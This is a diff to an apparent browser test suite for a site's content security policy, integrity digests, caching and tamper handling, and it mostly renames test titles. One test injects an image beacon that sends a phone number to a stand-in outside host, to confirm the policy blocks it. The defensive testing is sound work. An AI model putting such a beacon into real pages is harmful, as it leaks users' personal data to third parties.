@@ -33,7 +33,7 @@ const unfitPictures = (page: Page) =>
       .map(({ outerHTML }) => outerHTML),
   )
 
-test('no page of any section breaks the policy or complains', BOTH, async ({ site, browser }) => {
+test('no page of any section violates the policy or logs an error', BOTH, async ({ site, browser }) => {
   test.setTimeout(240_000)
   const addresses = await everyAddress(site)
   expect(addresses.length).toBeGreaterThan(everything ? 33 : 5)
@@ -51,7 +51,7 @@ test('no page of any section breaks the policy or complains', BOTH, async ({ sit
 })
 
 test(
-  'every document says what a browser may do with it, and names no script or style without its digest',
+  'every document has a policy, and a digest for each script and style that it names',
   BOTH,
   async ({ site }) => {
     for (const address of [...(await everyAddress(site)), '/nowhere']) {
@@ -114,7 +114,7 @@ test('a page runs no script of this site but those of its releases', async ({ si
   expect(Object.values(outcomes)).toEqual(['runs', 'is refused', 'is refused', 'is refused'])
 })
 
-test('what the policy refuses is told to operators, and not who read the page', async ({ site, page }) => {
+test('policy violations are reported to operators, without the visitor', async ({ site, page }) => {
   await page.goto(site.url + paths.quizResponse('Rosalind', '0123456789'))
   await page.evaluate(() => {
     new Image().src = 'https://elsewhere.example/pixel?phone=0123456789'
@@ -124,7 +124,7 @@ test('what the policy refuses is told to operators, and not who read the page', 
   expect(edgeLog(site)).not.toMatch(/Rosalind|0123456789/)
 })
 
-test('every file of a page may be kept for ever, and is what it is said to be', async ({ site }) => {
+test('every file of a page is cached for ever under the right type', async ({ site }) => {
   const { html } = await documentOf(site, paths.registration('fixture-entry'))
   const files = [...html.matchAll(/(?:src|href)="(\/releases\/files\/[^"]+)"/g)].map(([, url]) => url as string)
   expect(files.length).toBeGreaterThan(6)
@@ -139,7 +139,7 @@ test('every file of a page may be kept for ever, and is what it is said to be', 
   }
 })
 
-test.describe('a file that was changed on its way is refused', () => {
+test.describe('a file that was changed in transit is refused', () => {
   const form = paths.registration('fixture-entry')
   const cases: { name: string; match: RegExp; address: string }[] = [
     { name: 'the entry of a section', match: /mfe-events\/.*remoteEntry/, address: '/sports' },
@@ -165,7 +165,7 @@ test.describe('a file that was changed on its way is refused', () => {
   }
 
   test(
-    'the shell’s own script: the page that the server made stays readable, and its links work',
+    'the shell’s own script: the rendered page stays readable, and its links work',
     VERIFY,
     async ({ faults, page }) => {
       faults.faults = [{ match: /\/shell\/.*\/static\/js\//, do: 'tamper' }]
@@ -181,10 +181,10 @@ test.describe('a file that was changed on its way is refused', () => {
   )
 })
 
-test.describe('a file of the document that comes at the second try', () => {
+test.describe('a file of the document that loads at the second attempt', () => {
   const match = /\/shell\/.*\/static\/js\/index/
   for (const fault of ['500', 'tamper'] as const)
-    test(`the shell’s own script, after ${fault}: the page is as always`, async ({ faults, page }) => {
+    test(`the shell’s own script, after ${fault}: the page works as usual`, async ({ faults, page }) => {
       faults.faults = [{ match, do: fault, times: 1 }]
       await page.goto(faults.url)
       expect(await ready(page)).toBe('hydrated')
